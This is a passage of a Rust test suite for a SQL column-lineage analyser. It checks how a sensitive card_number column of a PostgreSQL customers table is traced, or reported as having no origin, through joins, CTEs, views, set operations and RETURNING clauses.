    assert_card(
        "SELECT t.x FROM customers c, LATERAL (VALUES (c.card_number)) t(x)",
        0,
    );
    assert_card(
        "WITH customers AS (SELECT 1 AS id) SELECT card_number FROM public.customers",
        0,
    );
    assert_clean(
        "WITH customers AS (SELECT 'x' AS card_number) SELECT card_number FROM customers",
        0,
    );
}

#[test]
fn values_past_the_column_list_land_anywhere() {
    let f = flows("INSERT INTO audit (note) SELECT 'x', card_number FROM customers");
    assert!(
        f.iter()
            .any(|w| w.column.is_none() && w.sources.contains(&card())),
        "{f:?}"
    );
    assert!(f.iter().all(|w| w.column.as_deref() != Some("card_number")));
    let f = flows("CREATE TABLE x (a) AS SELECT id, card_number FROM customers");
    assert!(f.iter().any(|w| w.column.as_deref() == Some("a")));
    assert!(f
        .iter()
        .any(|w| w.column.as_deref() == Some("card_number") && w.sources.contains(&card())));
}

// --- origins (what RowDescription reports) -----------------------------------------------

/// The origin of output column `i` of `sql`.
fn origin(sql: &str, i: usize) -> Option<SourceColumn> {
    let cols = out(sql);
    cols.get(i)
        .unwrap_or_else(|| panic!("{sql}: no column {i} in {cols:?}"))
        .origin
        .clone()
}

/// Asserts that output column `i` of `sql` is reported as card_number.
fn assert_card_origin(sql: &str, i: usize) {
    assert_eq!(origin(sql, i), Some(card()), "{sql}: column {i}");
}

/// Asserts that output column `i` of `sql` has no origin (transformed)
/// while still listing card_number (or being unknown).
fn assert_transformed_card(sql: &str, i: usize) {
    let cols = out(sql);
    let col = cols
        .get(i)
        .unwrap_or_else(|| panic!("{sql}: no column {i} in {cols:?}"));
    assert_eq!(col.origin, None, "{sql}: column {i} is {col:?}");
    assert!(
        col.unknown || col.sources.contains(&card()),
        "{sql}: column {i} is {col:?}"
    );
}

#[test]
fn origin_of_bare_column_references() {
    for sql in [
        "SELECT card_number FROM customers",
        "SELECT card_number AS harmless FROM customers",
        "SELECT c.card_number FROM customers c",
        "SELECT customers.card_number FROM customers",
        "SELECT public.customers.card_number FROM public.customers",
        "SELECT \"card_number\" FROM \"customers\"",
        "SELECT (card_number) FROM customers",
        "SELECT ((c.card_number)) AS x FROM customers c",
        "(SELECT card_number FROM customers)",
        "SELECT d FROM customers AS c(a, b, c, d)",
        "SELECT card_number FROM ONLY customers",
        "SELECT card_number FROM customers TABLESAMPLE SYSTEM (10)",
    ] {
        assert_card_origin(sql, 0);
    }
    assert_eq!(
        origin("SELECT id, name FROM customers", 1),
        Some(SourceColumn::new("public", "customers", "name"))
    );
}

#[test]
fn origin_survives_filters_grouping_and_ordering() {
    for sql in [
        "SELECT card_number FROM customers WHERE id > 1 ORDER BY 1 LIMIT 3",
        "SELECT DISTINCT card_number FROM customers",
        "SELECT DISTINCT ON (id) card_number FROM customers ORDER BY id",
        "SELECT card_number FROM customers GROUP BY card_number HAVING count(*) > 1",
        "SELECT card_number, count(*) FROM customers GROUP BY ROLLUP (card_number)",
        "SELECT card_number, row_number() OVER () FROM customers",
        "SELECT card_number FROM customers FOR UPDATE",
    ] {
        assert_card_origin(sql, 0);
    }
}

#[test]
fn star_and_table_have_origins() {
    for sql in [
        "SELECT * FROM customers",
        "TABLE customers",
        "SELECT c.* FROM customers c",
        "SELECT * FROM (SELECT * FROM customers) s",
    ] {
        let cols = out(sql);
        assert_eq!(cols.len(), 5, "{sql}");
        assert_eq!(cols[3].origin, Some(card()), "{sql}");
        assert_eq!(
            cols[0].origin,
            Some(SourceColumn::new("public", "customers", "id")),
            "{sql}"
        );
    }
    let cols = out("SELECT c.*, o.* FROM customers c, orders o");
    assert!(cols.iter().all(|c| c.origin.is_some()));
    assert_eq!(
        cols[5].origin,
        Some(SourceColumn::new("public", "orders", "id"))
    );
}

#[test]
fn origin_follows_subqueries_and_ctes() {
    for sql in [
        "SELECT s.card_number FROM (SELECT card_number FROM customers) s",
        "SELECT x FROM (SELECT card_number FROM customers) AS s(x)",
        "SELECT s.x FROM (SELECT c.card_number AS x, 1 FROM customers c WHERE c.id > 0) s",
        "SELECT x FROM (SELECT x FROM (SELECT card_number AS x FROM customers) a) b",
        "SELECT x FROM (SELECT DISTINCT card_number AS x FROM customers LIMIT 5) s",
        "WITH c AS (SELECT card_number FROM customers) SELECT card_number FROM c",
        "WITH a AS (SELECT card_number AS x FROM customers), b AS (SELECT x AS y FROM a) \
         SELECT y FROM b",
        "WITH a(v) AS (SELECT card_number FROM customers) SELECT * FROM a",
        "WITH a AS MATERIALIZED (SELECT card_number FROM customers) SELECT a.card_number FROM a",
        "WITH a AS (SELECT card_number FROM customers) \
         SELECT x FROM (SELECT card_number AS x FROM a) s",
    ] {
        assert_card_origin(sql, 0);
    }
}

#[test]
fn origin_through_lateral_and_outer_references() {
    let sql = "SELECT o.id, l.x FROM orders o, \
               LATERAL (SELECT card_number AS x FROM customers c WHERE c.id = o.customer_id) l";
    assert_card_origin(sql, 1);
    // The subquery's column is an up-level Var: PostgreSQL resolves it to
    // the outer relation and copies that origin.
    assert_card_origin(
        "SELECT s.x FROM customers c, LATERAL (SELECT c.card_number AS x) s",
        0,
    );
    // A scalar subquery is an expression.
    assert_transformed_card("SELECT (SELECT c.card_number) FROM customers c", 0);
}

#[test]
fn expressions_have_no_origin() {
    for sql in [
        "SELECT card_number::text FROM customers",
        "SELECT CAST(card_number AS varchar(40)) FROM customers",
        "SELECT card_number || '' FROM customers",
        "SELECT card_number COLLATE \"C\" FROM customers",
        "SELECT upper(card_number) FROM customers",
        "SELECT pg_catalog.upper(card_number) FROM customers",
        "SELECT coalesce(card_number) FROM customers",
        "SELECT nullif(card_number, '') FROM customers",
        "SELECT CASE WHEN true THEN card_number END FROM customers",
        "SELECT max(card_number) FROM customers",
        "SELECT lag(card_number) OVER (ORDER BY id) FROM customers",
        "SELECT ARRAY[card_number] FROM customers",
        "SELECT ROW(card_number) FROM customers",
        "SELECT (SELECT card_number FROM customers LIMIT 1)",
        "SELECT ARRAY(SELECT card_number FROM customers)",
        "SELECT ident(card_number) FROM customers",
        "SELECT get_card(1)",
        "SELECT (c).card_number FROM customers c",
        "SELECT card_number.x FROM customers",
        "SELECT x FROM (SELECT card_number::text AS x FROM customers) s",
        "SELECT x FROM (SELECT upper(card_number) AS x FROM customers) s",
        "WITH c AS (SELECT card_number || '' AS card_number FROM customers) \
         SELECT card_number FROM c",
    ] {
        assert_transformed_card(sql, 0);
    }
    let cols = out("SELECT -id, +id, id + 0 FROM customers");
    assert!(cols.iter().all(|c| c.origin.is_none()));
}

#[test]
fn whole_rows_and_system_columns_have_no_origin() {
    for sql in [
        "SELECT c FROM customers c",
        "SELECT customers FROM customers",
        "SELECT row_to_json(c) FROM customers c",
        "SELECT to_jsonb(c.*) FROM customers c",
    ] {
        assert_transformed_card(sql, 0);
    }
    // `(c).*` is written as an expression: conservatively no origins.
    let cols = out("SELECT (c).* FROM customers c");
    assert_eq!(cols.len(), 5);
    assert!(cols.iter().all(|c| c.origin.is_none()));
    assert!(cols[3].sources.contains(&card()));
    let cols = out("SELECT ctid, c.xmin, tableoid FROM customers c");
    assert!(cols.iter().all(|c| c.origin.is_none()));
}

#[test]
fn view_columns_have_no_origin() {
    for sql in [
        "SELECT card FROM cust_v",
        "SELECT c2 FROM cust_vv",
        "SELECT card_number FROM card_mv",
        "SELECT s.card_number FROM (SELECT card_number FROM card_mv) s",
        "WITH c AS (SELECT * FROM card_mv) SELECT card_number FROM c",
    ] {
        assert_transformed_card(sql, 0);
    }
    // Even a plain column of a plain view: PostgreSQL names the view.
    let cols = out("SELECT * FROM harmless_v");
    assert_eq!(cols.len(), 2);
    assert!(cols.iter().all(|c| c.origin.is_none() && !c.unknown));
    assert_eq!(origin("SELECT id FROM harmless_v", 0), None);
    // Views followed once are cached: the cached columns have none either.
    let all = output_lineage(
        "SELECT card_number FROM card_mv; SELECT m.card_number FROM card_mv m",
        &catalog(),
    )
    .expect("parses");
    for stmt in all {
        let cols = stmt.expect("rows");
        assert_eq!(cols[0].origin, None);
        assert!(cols[0].sources.contains(&card()));
    }
}

#[test]
fn set_operations_and_values_have_no_origin() {
    for sql in [
        "SELECT card_number FROM customers UNION SELECT card_number FROM customers",
        "SELECT card_number FROM customers UNION ALL SELECT product FROM orders",
        "SELECT card_number FROM customers INTERSECT SELECT card_number FROM customers",
        "SELECT card_number FROM customers EXCEPT SELECT product FROM orders",
        "SELECT x FROM (SELECT card_number AS x FROM customers \
         UNION ALL SELECT card_number FROM customers) s",
        "WITH u AS (SELECT card_number FROM customers UNION SELECT 'x') \
         SELECT card_number FROM u",
        "SELECT t.x FROM customers c, LATERAL (VALUES (c.card_number)) t(x)",
        "SELECT * FROM (VALUES ((SELECT card_number FROM customers LIMIT 1))) v(x)",
    ] {
        assert_transformed_card(sql, 0);
    }
    assert!(out("VALUES (1, 'a')").iter().all(|c| c.origin.is_none()));
}

#[test]
fn function_results_have_no_origin() {
    for sql in [
        "SELECT * FROM get_card(1)",
        "SELECT g FROM get_card(1) g",
        "SELECT x FROM get_card(1) AS t(x)",
        "SELECT a.card_number FROM all_customers() a",
        "SELECT u FROM customers c, unnest(ARRAY[c.card_number]) u",
        "SELECT s.x FROM (SELECT * FROM get_card(1) AS f(x)) s",
    ] {
        assert_transformed_card(sql, 0);
    }
    let cols = out("SELECT * FROM all_customers()");
    assert!(cols.iter().all(|c| c.origin.is_none()));
    assert_eq!(origin("SELECT * FROM generate_series(1, 3)", 0), None);
}

#[test]
fn join_origins() {
    // Columns of one side keep their origin, through the join's alias too.
    for sql in [
        "SELECT card_number FROM orders JOIN customers USING (id)",
        "SELECT customers.card_number FROM orders JOIN customers USING (id)",
        "SELECT x.card_number FROM orders LEFT JOIN customers x ON x.id = orders.customer_id",
        "SELECT c.card_number FROM orders o FULL JOIN customers c ON c.id = o.customer_id",
        "SELECT j.card_number FROM (customers JOIN orders USING (id)) AS j",
        "SELECT card_number FROM orders NATURAL JOIN customers",
    ] {
        assert_card_origin(sql, 0);
    }
    // Merged USING/NATURAL columns: none (COALESCE for FULL JOIN, possibly
    // a coercion otherwise).
    for sql in [
        "SELECT id FROM orders JOIN customers USING (id)",
        "SELECT id FROM orders LEFT JOIN customers USING (id)",
        "SELECT id FROM orders FULL JOIN customers USING (id)",
        "SELECT id FROM orders NATURAL JOIN customers",
        "SELECT u.id FROM orders JOIN customers USING (id) AS u",
        "SELECT j.id FROM (orders JOIN customers USING (id)) AS j",
    ] {
        assert_eq!(origin(sql, 0), None, "{sql}");
    }
    let cols = out("SELECT * FROM orders JOIN customers USING (id)");
    assert_eq!(cols[0].origin, None);
    assert_eq!(cols[8].origin, Some(card()));
    assert!(cols[1..].iter().all(|c| c.origin.is_some()));
    // The join's inputs, qualified, are their own columns.
    assert_eq!(
        origin(
            "SELECT customers.id FROM orders JOIN customers USING (id)",
            0
        ),
        Some(SourceColumn::new("public", "customers", "id"))
    );
}

#[test]
fn returning_has_no_origin() {
    for sql in [
        "DELETE FROM customers RETURNING card_number",
        "UPDATE customers SET name = 'x' RETURNING card_number",
        "UPDATE customers SET name = 'x' RETURNING customers.card_number",
        "UPDATE orders SET product = c.card_number FROM customers c RETURNING c.card_number",
        "UPDATE orders SET product = c.card_number FROM customers c RETURNING product",
        "INSERT INTO orders (product) SELECT card_number FROM customers RETURNING product",
        "MERGE INTO audit a USING customers c ON a.id = c.id \
         WHEN MATCHED THEN UPDATE SET note = c.card_number RETURNING c.card_number",
        "WITH m AS (DELETE FROM customers RETURNING card_number) SELECT card_number FROM m",
    ] {
        assert_transformed_card(sql, 0);
    }
    assert_transformed_card(
        "WITH m AS (DELETE FROM customers RETURNING *) SELECT * FROM m",
        3,
    );
    let cols = out("DELETE FROM customers RETURNING *");
    assert!(cols.iter().all(|c| c.origin.is_none()));
}

#[test]
fn recursive_ctes_have_no_origin() {
    for sql in [
        "WITH RECURSIVE r AS (SELECT card_number FROM customers) SELECT card_number FROM r",
        "WITH RECURSIVE r(a, b) AS (SELECT card_number, '' FROM customers UNION ALL \
         SELECT b, a FROM r WHERE false) SELECT a FROM r",
        "WITH RECURSIVE r AS (SELECT card_number FROM customers \
         UNION ALL SELECT card_number FROM r WHERE false), \
         s AS (SELECT card_number FROM r) SELECT card_number FROM s",
    ] {
        assert_transformed_card(sql, 0);
    }
}

#[test]
fn unresolved_columns_have_no_origin() {
    // Unknown relations, ambiguous relations and ambiguous names.
    for sql in [
        "SELECT x FROM nosuch",
        "SELECT id FROM customers, nosuch",
        "SELECT id FROM accounts",
        "SELECT card FROM accounts",
        "SELECT pin FROM accounts",
        "SELECT a.pin FROM accounts a",
        "SELECT id FROM customers, orders",
        "SELECT s.x FROM (SELECT card_number AS x, name AS x FROM customers) s",
        "SELECT $1",
        "SELECT 1",
    ] {
        for c in out(sql) {
            assert_eq!(c.origin, None, "{sql}: {c:?}");
        }
    }
    // A `*` over an unknown relation: no column count, no lineage at all.
    assert_eq!(
        output_lineage("SELECT * FROM nosuch", &catalog()).expect("parses"),
        vec![None]
    );
    // A qualified name still resolves past an unknown relation.
    assert_eq!(
        origin("SELECT c.card_number FROM customers c, nosuch n", 0),
        Some(card())
    );
    // A CTE shadowing the table is what the name means.
    assert_transformed_card(
        "WITH customers AS (SELECT upper(card_number) AS card_number FROM public.customers) \
         SELECT card_number FROM customers",
        0,
    );
    assert_card_origin(
        "WITH customers AS (SELECT 1 AS id) SELECT card_number FROM public.customers",
        0,
    );
}

#[test]
fn origin_is_never_set_when_unknown_and_always_a_source() {
    let sqls = [
        "SELECT card_number, upper(name), leak(id), * FROM customers",
        "SELECT o.*, c.card_number, mystery(o.id) FROM orders o JOIN customers c ON true",
        "SELECT card_number, id, x FROM customers, nosuch",
        "SELECT * FROM cust_v, opaque_v, loop_v",
        "SELECT x.* FROM (SELECT card_number, hidden(1) FROM customers) x",
        "WITH a AS (SELECT * FROM customers) SELECT a.*, b.* FROM a, accounts b",
    ];
    let mut seen_origin = false;
    for sql in sqls {
        for c in out(sql) {
            assert_origin_backed(sql, &c);
            if c.unknown {
                assert_eq!(c.origin, None, "{sql}: {c:?}");
            }
            seen_origin |= c.origin.is_some();
        }
    }
    assert!(seen_origin);
    // Several statements: each its own.
    let all = output_lineage(
        "SELECT card_number FROM customers; SELECT upper(card_number) FROM customers",
        &catalog(),
    )
    .expect("parses");
    assert_eq!(all[0].as_ref().expect("rows")[0].origin, Some(card()));
    assert_eq!(all[1].as_ref().expect("rows")[0].origin, None);
}
